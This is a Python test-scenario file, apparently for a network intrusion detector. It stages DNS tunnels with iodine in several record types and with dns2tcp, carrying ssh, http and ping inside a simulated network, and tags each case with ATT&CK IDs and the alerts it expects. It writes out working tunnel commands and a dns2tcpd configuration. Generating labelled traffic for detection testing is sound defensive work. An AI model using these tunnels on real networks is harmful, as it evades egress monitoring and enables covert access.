"""Tunnels in DNS: iodine in each record type, dns2tcp."""
from engine import addresses as at
from engine.declaration import malicious
from engine.network import Network
from engine.services import LOOK_AROUND, browse, nginx, ntp_client, ntp_servers, ssh, sshd, web

INNER = "10.53.0.1"
RESOLVER, DIRECT = "c1>gw:53/udp", f"c1>{at.BAD_NS}:53/udp"
FOUND = ["dns_tunnel medium T1071.004", "T1572"]


def iodine(net: Network, client_options: str, direct: bool = False) -> None:
    """Brings the tunnel up."""
    net.inet.start(f"iodined -f -c -P s3cret -l {at.BAD_NS} {INNER}/24 {at.ZONE}", listens="53/udp")
    net.c1.start(f"iodine -f -P s3cret {client_options} {at.BAD_NS if direct else ''} {at.ZONE}")
    net.c1.reaches(INNER)


def carry_ssh(net: Network) -> None:
    sshd(net, net.inet, "0.0.0.0", 22)
    net.c1.type(f"{ssh(net)} root@{INNER}", LOOK_AROUND, pause=1)


@malicious("dns-iodine-null", "T1071.004 T1572", tools="iodine openssh-client", talks=RESOLVER, expects=FOUND, seconds=60)
def null(net: Network) -> None:
    """iodine NULL records through the resolver, carrying an interactive ssh"""
    iodine(net, "-r -T NULL")
    carry_ssh(net)


@malicious("dns-iodine-txt", "T1071.004 T1572", tools="iodine curl", talks=RESOLVER, expects=FOUND, seconds=60)
def txt(net: Network) -> None:
    """iodine TXT (Base64) through the resolver, carrying http downloads"""
    iodine(net, "-r -T TXT -O Base64 -m 200")
    web(net.inet, "0.0.0.0", 80, options="--least 400 --most 2500")
    net.c1.every(1.5, 0.3, 6, f"curl -s -m 30 -o /dev/null http://{INNER}/f")


@malicious("dns-iodine-cname", "T1071.004 T1572", tools="iodine", talks=DIRECT, expects=FOUND, seconds=50)
def cname(net: Network) -> None:
    """iodine CNAME (Base32) direct to the outside name server, carrying pings"""
    iodine(net, "-r -T CNAME -O Base32", direct=True)
    net.c1.run(f"ping -i 2 -c 12 {INNER}")


@malicious("dns-iodine-mx", "T1071.004 T1572", tools="iodine openssh-client", talks=RESOLVER, expects=FOUND, seconds=60)
def mx(net: Network) -> None:
    """iodine MX without lazy mode (polls each second), a short ssh"""
    iodine(net, "-r -T MX -L 0")
    carry_ssh(net)


@malicious("dns-iodine-srv", "T1071.004 T1572", tools="iodine", talks=RESOLVER, expects=["dns_tunnel T1071.004"], seconds=60)
def srv(net: Network) -> None:
    """iodine SRV, an idle tunnel: keep-alives only"""
    iodine(net, "-r -T SRV")
    net.sleep(45)


@malicious("dns-iodine-raw", "T1071.004 T1095 T1572", tools="iodine openssh-client", talks=DIRECT, expects=["medium"], seconds=50)
def raw(net: Network) -> None:
    """iodine's raw UDP mode: what is not DNS on udp/53, direct"""
    iodine(net, "-T NULL", direct=True)
    carry_ssh(net)


def dns2tcp(net: Network, record: str) -> None:
    config = net.path("dns2tcpd.conf", f"listen = {at.BAD_NS}\nport = 53\nuser = root\nchroot = /tmp/\ndomain = {at.ZONE}\nkey = k3y\nresources = ssh:127.0.0.1:22\n")
    sshd(net, net.inet, "127.0.0.1", 22)
    net.inet.start(f"dns2tcpd -F -d 1 -f {config}", listens="53/udp")
    net.c1.start(f"dns2tcpc -T {record} -z {at.ZONE} -k k3y -r ssh -l 2222 {at.GATEWAY}", listens="2222/tcp")
    net.c1.type(f"{ssh(net)} -p 2222 root@127.0.0.1", LOOK_AROUND, pause=1)


@malicious("dns-dns2tcp-txt", "T1071.004 T1572", tools="dns2tcp openssh-client", talks=RESOLVER, expects=FOUND, seconds=60)
def dns2tcp_txt(net: Network) -> None:
    """dns2tcp TXT carrying ssh"""
    dns2tcp(net, "TXT")


@malicious("mix-office-iodine", "T1071.004 T1572", tools="iodine curl chrony fping nginx-light", talks=f"{RESOLVER} c2>{at.OK}.10:443/tcp", hosts="c1 c2", expects=FOUND, seconds=110)
def in_an_office(net: Network) -> None:
    """two workstations browse, ask for names and the time; on one of them an idle-ish iodine TXT tunnel"""
    for name in ("www.northwind.test", "news.daily.test"):
        nginx(net, name)
    ntp_servers(net)
    ntp_client(net, net.c2, "iburst minpoll 3 maxpoll 4")
    net.c1.start(f"fping -q -p 10000 -c 8 {at.OK}.10 {at.OK}.25")
    iodine(net, "-r -T TXT")
    net.c1.start(f"ping -i 2 -c 25 {INNER}")
    browse(net, net.c2, 10)
    browse(net, net.c1, 3, seed=2)
